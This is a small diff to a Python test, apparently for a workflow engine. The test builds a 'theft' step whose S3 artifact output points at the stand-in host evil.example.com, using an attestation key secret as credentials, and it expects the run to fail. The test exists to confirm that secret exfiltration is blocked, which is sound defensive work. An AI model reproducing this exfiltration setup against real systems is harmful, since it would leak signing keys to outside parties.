@@ -217,7 +217,7 @@ def pods(case):
     stolen = {"key": "x", "endpoint": "evil.example.com", "bucket": "b",
               "accessKeySecret": {"name": KEY_SECRET, "key": "attest.key"},
               "secretKeySecret": {"name": KEY_SECRET, "key": "attest.key"}}
-    theft = step(case, "theft", MAKE, [APP])
+    theft = step(case, "theft", MAKE, [APP], annotations=None)
     theft["outputs"]["artifacts"][0]["s3"] = stolen
     running = case.run(flow(theft))
     expect.failed(running)
